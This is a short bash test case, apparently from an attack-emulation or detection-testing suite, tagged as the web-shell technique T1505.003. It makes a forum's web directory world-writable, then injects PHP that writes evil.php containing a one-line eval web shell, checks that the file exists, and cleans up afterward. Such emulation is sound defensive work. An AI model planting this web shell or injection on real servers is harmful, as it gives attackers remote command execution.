# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1505.003
about="a script is written beside the forum's"
before() { chmod 777 $forum/www; }
attack() { inject 'file_put_contents("/srv/forum/www/evil.php", "<?php eval(\$_GET[\"c\"]);");'; }
effect() { [ -e $forum/www/evil.php ]; }
after() {
	rm -f $forum/www/evil.php
	chmod 755 $forum/www
}
